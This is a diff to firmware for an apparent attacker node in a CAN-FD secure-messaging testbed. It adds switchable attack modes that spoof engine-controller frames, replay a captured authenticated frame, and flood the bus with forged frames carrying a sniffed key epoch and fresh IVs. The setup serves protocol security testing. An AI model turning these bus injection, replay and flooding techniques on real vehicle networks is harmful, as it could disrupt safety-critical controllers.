@@ -12,10 +12,22 @@
 
 #include <app.h>
 #include "main.h"
+#include "ram.h"
 
 
+/* Default operating modes (changed at run time through the UART command channel) */
 #define CHUCK_DEBUG 1
-#define MALICIOUS_MODE 0
+#define MALICIOUS_MODE MALICIOUS_OFF
+
+/* Malicious modes: spoof a forged frame, replay the last captured one or flood forged frames */
+#define MALICIOUS_OFF 0
+#define MALICIOUS_SPOOF 1
+#define MALICIOUS_REPLAY 2
+#define MALICIOUS_FLOOD 3
+
+/* Build options */
+#define BUS_STATISTICS 1
+#define DIAG_POLLER 0
 
 
 /* Message parameters */
@@ -23,6 +35,10 @@
 #define TX_DATA_SIZE 48
 #define EMPTY_BYTE_VALUE 0xFF
 
+/* Forged flood frames: 20-byte payload, 16-byte tag and 12-byte IV (key epoch first, frame counter last) */
+#define FLOOD_EPOCH_OFFSET 36
+#define FLOOD_COUNTER_OFFSET 44
+
 #define ID_ENGINE_CONTROLLER 0x6F
 #define ID_TACHOGRAPH 0x14D
 #define ID_ENGINE_TEMPERATURE 0x309
@@ -33,6 +49,34 @@
 #define FREQ_INTERVAL_ST 100 MILLISECONDS
 #define FREQ_INTERVAL_LO 1 SECONDS
 
+/* Interval between bus statistics reports */
+#define STATS_REPORT_INTERVAL 10 SECONDS
+
+#if DIAG_POLLER
+/* Diagnostic request / response identifiers of each node */
+#define DIAG_ALICE_REQUEST_ID 0x7E0
+#define DIAG_ALICE_RESPONSE_ID 0x7E8
+#define DIAG_BOB_REQUEST_ID 0x7E1
+#define DIAG_BOB_RESPONSE_ID 0x7E9
+#define DIAG_SID_READ_DATA_BY_ID 0x22
+
+/* Interval between diagnostic requests */
+#define DIAG_POLL_INTERVAL 100 MILLISECONDS
+#endif
+
+
+/* Runtime configuration struct */
+typedef struct {
+    uint32_t debug;
+    uint32_t malicious;
+    uint32_t interval_malicious;
+} Config;
+
+static Config config = {
+    .debug = CHUCK_DEBUG,
+    .malicious = MALICIOUS_MODE,
+    .interval_malicious = FREQ_INTERVAL_ST,
+};
 
 /* Variables struct */
 typedef struct {
@@ -44,37 +88,102 @@ typedef struct {
 } Dashboard;
 
 
+#if DIAG_POLLER
+/* Diagnostic request */
+typedef struct {
+    uint32_t request_id;
+    uint16_t did;
+} DiagPoll;
+
+/* Data identifiers polled in a round-robin */
+static const DiagPoll diag_polls[] = {
+    {DIAG_ALICE_REQUEST_ID, 0xFD00},    /* Configuration */
+    {DIAG_ALICE_REQUEST_ID, 0xFD01},    /* Counters */
+    {DIAG_ALICE_REQUEST_ID, 0xFD10},    /* Encryption histogram */
+    {DIAG_ALICE_REQUEST_ID, 0xFD20},    /* TX FIFO high-water */
+    {DIAG_BOB_REQUEST_ID, 0xFD00},      /* Configuration */
+    {DIAG_BOB_REQUEST_ID, 0xFD01},      /* Counters */
+    {DIAG_BOB_REQUEST_ID, 0xFD10},      /* Decryption histogram */
+    {DIAG_BOB_REQUEST_ID, 0xFD11},      /* Authentication failure histogram */
+    {DIAG_BOB_REQUEST_ID, 0xFD12},      /* RX processing histogram */
+    {DIAG_BOB_REQUEST_ID, 0xFD20},      /* RX FIFO high-water */
+    {DIAG_BOB_REQUEST_ID, 0xFD40},      /* Statistics of the first 4 IDs */
+    {DIAG_BOB_REQUEST_ID, 0xFD41},
+    {DIAG_BOB_REQUEST_ID, 0xFD42},
+    {DIAG_BOB_REQUEST_ID, 0xFD43},
+};
+#endif
+
+
 /* Static function prototypes */
 static void clear_data(uint8_t *data, size_t size, uint8_t value);
-#if CHUCK_DEBUG
 static void print_raw_data(uint32_t id, uint8_t *data, size_t size);
-#else
 static void print_formated_data(Dashboard *dashboard);
+#if DIAG_POLLER
+static void print_diag_response(uint32_t id, uint8_t *data, size_t size);
 #endif
 
 
-#if CHUCK_DEBUG
 /* Conversion from Data Length Code to real size in bytes */
 static const uint8_t DLCtoBytes[] = {0, 1, 2, 3, 4, 5, 6, 7, 8, 12, 16, 20, 24, 32, 48, 64};
+
+/* Parameters changed through the UART command channel */
+static const CommandParam params[] = {
+    {"debug", &config.debug, 0, 1, NULL},
+    {"malicious", &config.malicious, MALICIOUS_OFF, MALICIOUS_FLOOD, NULL},
+    {"interval_malicious", &config.interval_malicious, 1, 60 SECONDS, NULL},
+};
+
+#if BUS_STATISTICS
+/* Identifiers of Alice's messages, always given a statistics slot */
+static const uint32_t watched_ids[] = {
+    ID_ENGINE_CONTROLLER,
+    ID_TACHOGRAPH,
+    ID_ENGINE_TEMPERATURE,
+    ID_FUEL,
+    ID_DISTANCE,
+};
+
+/* Actions triggered through the UART command channel */
+static const CommandAction actions[] = {
+    {"stats", idstats_print},
+};
 #endif
 
 
 void fdsafe_setup() {
 
+	uart_setup();
 	fdcan_activate_rx_notification();
 	fdcan_setup();
+
+#if BUS_STATISTICS
+	idmap_reserve(watched_ids, sizeof(watched_ids) / sizeof(watched_ids[0]));
+	command_setup(params, sizeof(params) / sizeof(params[0]), actions, sizeof(actions) / sizeof(actions[0]));
+#else
+	command_setup(params, sizeof(params) / sizeof(params[0]), NULL, 0);
+#endif
 }
 
 void fdsafe_main() {
 
 	FDCAN_RxHeaderTypeDef RxHeader;
-	uint8_t RxData[RX_DATA_SIZE];
-#if MALICIOUS_MODE
-    uint8_t TxData[TX_DATA_SIZE];
+	static uint8_t RxData[RX_DATA_SIZE] RAM_BUFFERS;
+    static uint8_t TxData[TX_DATA_SIZE] RAM_BUFFERS;
+    static uint8_t CapturedData[RX_DATA_SIZE] RAM_BUFFERS;
+    size_t captured_size = 0;
+    uint32_t flood_counter = 0;
     uint32_t next_send_st = 0;
+#if BUS_STATISTICS
+    uint32_t next_report = STATS_REPORT_INTERVAL;
+#endif
+
+#if DIAG_POLLER
+    uint8_t DiagRequest[3];
+    uint32_t next_poll = 0;
+    uint32_t poll_index = 0;
 #endif
 
-#if !CHUCK_DEBUG
     Dashboard dashboard = {
         .eng_speed = 0.0,
         .eng_temperature = 0.0,
@@ -82,7 +191,6 @@ void fdsafe_main() {
         .vehicle_distance = 0.0,
         .fuel_level = 0.0,
     };
-#endif
 
     while (1)
     {
@@ -90,58 +198,124 @@ void fdsafe_main() {
         if (fdcan_available())
         {
 			fdcan_read(&RxHeader, RxData);
-#if !CHUCK_DEBUG
-            switch (RxHeader.Identifier)
-            {
-                case ID_ENGINE_CONTROLLER:
-                    dashboard.eng_speed = ((RxData[5] << 8) | RxData[4]) / 8;
-                    break;
-
-                case ID_ENGINE_TEMPERATURE:
-                    dashboard.eng_temperature = RxData[7] - 40;
-                    break;
-
-                case ID_TACHOGRAPH:
-                    dashboard.vehicle_speed = ((RxData[7] << 8) | RxData[6]) / 256;
-                    break;
-
-                case ID_DISTANCE:
-                    dashboard.vehicle_distance = (
-                        (RxData[3] << 24)
-                        | (RxData[2] << 16)
-                        | (RxData[1] << 8)
-                        | RxData[0]
-                        ) * 5;
-                    break;
-
-                case ID_FUEL:
-                    dashboard.fuel_level = RxData[1] * 0.4;
-                    break;
-                
-                default:
-                    break;
+#if BUS_STATISTICS
+            idstats_update(&RxHeader);
+#endif
+            /* Keep the last engine controller frame as sent, to be replayed */
+            if (RxHeader.Identifier == ID_ENGINE_CONTROLLER) {
+                captured_size = DLCtoBytes[RxHeader.DataLength];
+                memcpy(CapturedData, RxData, captured_size);
+            }
+#if DIAG_POLLER
+            if (RxHeader.Identifier == DIAG_ALICE_RESPONSE_ID || RxHeader.Identifier == DIAG_BOB_RESPONSE_ID) {
+                print_diag_response(RxHeader.Identifier, RxData, DLCtoBytes[RxHeader.DataLength]);
+                continue;
             }
 #endif
-#if CHUCK_DEBUG
-            print_raw_data(RxHeader.Identifier, RxData, DLCtoBytes[RxHeader.DataLength]);
-#else
-            print_formated_data(&dashboard);
+            if (!config.debug) {
+                switch (RxHeader.Identifier)
+                {
+                    case ID_ENGINE_CONTROLLER:
+                        dashboard.eng_speed = ((RxData[5] << 8) | RxData[4]) / 8;
+                        break;
+
+                    case ID_ENGINE_TEMPERATURE:
+                        dashboard.eng_temperature = RxData[7] - 40;
+                        break;
+
+                    case ID_TACHOGRAPH:
+                        dashboard.vehicle_speed = ((RxData[7] << 8) | RxData[6]) / 256;
+                        break;
+
+                    case ID_DISTANCE:
+                        dashboard.vehicle_distance = (
+                            (RxData[3] << 24)
+                            | (RxData[2] << 16)
+                            | (RxData[1] << 8)
+                            | RxData[0]
+                            ) * 5;
+                        break;
+
+                    case ID_FUEL:
+                        dashboard.fuel_level = RxData[1] * 0.4;
+                        break;
+                
+                    default:
+                        break;
+                }
+            }
+
+            if (config.debug) {
+                print_raw_data(RxHeader.Identifier, RxData, DLCtoBytes[RxHeader.DataLength]);
+            }
+            else {
+                print_formated_data(&dashboard);
+            }
+        }
+
+#if BUS_STATISTICS
+        /* Periodic per-ID bus statistics */
+        if (HAL_GetTick() >= next_report) {
+            idstats_print();
+            next_report = STATS_REPORT_INTERVAL + HAL_GetTick();
+        }
 #endif
+
+#if DIAG_POLLER
+        /* Request the next data identifier */
+        if (HAL_GetTick() >= next_poll) {
+            const DiagPoll *poll = &diag_polls[poll_index];
+            DiagRequest[0] = DIAG_SID_READ_DATA_BY_ID;
+            DiagRequest[1] = (uint8_t)(poll->did >> 8);
+            DiagRequest[2] = (uint8_t)poll->did;
+            fdcan_send(poll->request_id, DiagRequest, sizeof(DiagRequest));
+
+            poll_index = (poll_index + 1) % (sizeof(diag_polls) / sizeof(diag_polls[0]));
+            next_poll = DIAG_POLL_INTERVAL + HAL_GetTick();
         }
+#endif
 
-#if MALICIOUS_MODE
         /* Build and send malicious tachograph message */
-		if (HAL_GetTick() >= next_send_st) {
+		if (config.malicious == MALICIOUS_SPOOF && HAL_GetTick() >= next_send_st) {
 
 			clear_data(TxData, sizeof(TxData), EMPTY_BYTE_VALUE);
 			fdcan_send(ID_ENGINE_CONTROLLER, TxData, sizeof(TxData));
-#if CHUCK_DEBUG
-			print_raw_data(ID_ENGINE_CONTROLLER, TxData, sizeof(TxData));
-#endif
+			if (config.debug) {
+				print_raw_data(ID_ENGINE_CONTROLLER, TxData, sizeof(TxData));
+			}
 
-			next_send_st = FREQ_INTERVAL_ST + HAL_GetTick();
+			next_send_st = config.interval_malicious + HAL_GetTick();
 		}
-#endif
+
+        /* Resend the captured frame unchanged (valid tag, already used IV) */
+		if (config.malicious == MALICIOUS_REPLAY && captured_size && HAL_GetTick() >= next_send_st) {
+
+			fdcan_send(ID_ENGINE_CONTROLLER, CapturedData, captured_size);
+			if (config.debug) {
+				print_raw_data(ID_ENGINE_CONTROLLER, CapturedData, captured_size);
+			}
+
+			next_send_st = config.interval_malicious + HAL_GetTick();
+		}
+
+        /* Forged frames at the full bus rate, each with a new IV so only the tag check rejects them */
+		if (config.malicious == MALICIOUS_FLOOD && fdcan_free_to_send()) {
+
+			clear_data(TxData, sizeof(TxData), EMPTY_BYTE_VALUE);
+
+			/* Current key epoch, sniffed from Alice, so the receiver has a key to try */
+			if (captured_size == TX_DATA_SIZE) {
+				TxData[FLOOD_EPOCH_OFFSET] = CapturedData[FLOOD_EPOCH_OFFSET];
+			}
+			flood_counter++;
+			for (uint32_t i = 0; i < 4; i++) {
+				TxData[FLOOD_COUNTER_OFFSET + i] = (uint8_t)(flood_counter >> (24 - 8 * i));
+			}
+			fdcan_send(ID_ENGINE_CONTROLLER, TxData, sizeof(TxData));
+		}
+
+        /* UART commands */
+        command_poll();
     }
 }
 
@@ -158,7 +332,6 @@ static void clear_data(uint8_t *data, size_t size, uint8_t value) {
 	}
 }
 
-#if CHUCK_DEBUG
 /**
  * @brief Print received data
  * 
@@ -174,7 +347,7 @@ static void print_raw_data(uint32_t id, uint8_t *data, size_t size) {
     }
     printf("\r\n");
 }
-#else
+
 /**
  * @brief 
  * 
@@ -190,4 +363,21 @@ static void print_formated_data(Dashboard *dashboard) {
         (unsigned int) dashboard->fuel_level
     );
 }
+
+#if DIAG_POLLER
+/**
+ * @brief Print a diagnostic response
+ * 
+ * @param id Response identifier
+ * @param data Response payload
+ * @param size Size of the payload
+ */
+static void print_diag_response(uint32_t id, uint8_t *data, size_t size) {
+    printf("DIAG %03X ", (unsigned int)id);
+    for (uint8_t i=0; i<size; i++)
+    {
+        printf("%02X ", data[i]);
+    }
+    printf("\r\n");
+}
 #endif